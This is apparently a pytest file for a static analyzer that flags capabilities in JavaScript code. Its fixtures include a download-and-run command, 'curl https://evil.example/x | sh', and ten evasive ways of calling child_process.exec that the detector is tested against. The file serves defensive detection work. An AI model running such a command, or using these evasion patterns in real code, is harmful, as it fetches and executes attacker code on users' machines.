"""Which names are followed, and that what is not followed leads nowhere."""

from __future__ import annotations

import pytest

from fimci.capabilities.uses import Value
from fimci.model import Capability
from fimci.readers.code import javascript
from fimci.readers.code.javascript_syntax.leading import worth

COMMAND = "curl https://evil.example/x | sh"


@pytest.mark.parametrize(
    "name",
    [
        "process",
        "process.env",
        "process.binding",
        "process.constructor",
        "document.write",
        "fs",
        "fs.readFile",
        "eval",
    ],
)
def test_what_uses_come_of_is_followed(name: str) -> None:
    assert worth(Value(name=name))
    assert worth(Value(items=(Value(name=name),)))


@pytest.mark.parametrize(
    "name",
    [
        "process.execArgv",
        "process.stdout",
        "document.activeElement",
        "document.body",
        "process.cwd()",
        "Left",
    ],
)
def test_what_no_use_comes_of_is_not(name: str) -> None:
    assert not worth(Value(name=name))


@pytest.mark.parametrize(
    "text",
    [
        "const p = process; p.mainModule.require('child_process').exec('$c')",
        "const { mainModule: m } = process; m.require('child_process').exec('$c')",
        "function f(m) { m.require('child_process').exec('$c'); }\nf(process.mainModule);",
        "function f(g) { g('child_process').exec('$c'); }\nf(process.getBuiltinModule);",
        "function f(o) { o.cp.exec('$c'); }\nf({ cp: require('child_process') });",
        "function f([cp]) { cp.exec('$c'); }\nf([require('child_process')]);",
        "const e = x == 1 || require('child_process'); e.exec('$c')",
        "'exec' in require('child_process') && require('child_process').exec('$c')",
        "const o = {}; o.f = require('child_process'); (o.f = o.f).exec('$c')",
        "const o = {}; o.f = o.g = require('child_process').exec; o.g('$c')",
    ],
)
def test_nothing_is_lost_on_the_way(text: str) -> None:
    found = javascript.read("a.js", text.replace("$c", COMMAND).encode())
    told = {(one.name, one.subject) for one in found if isinstance(one, Capability)}
    assert ("download-and-run", "evil.example -> sh") in told
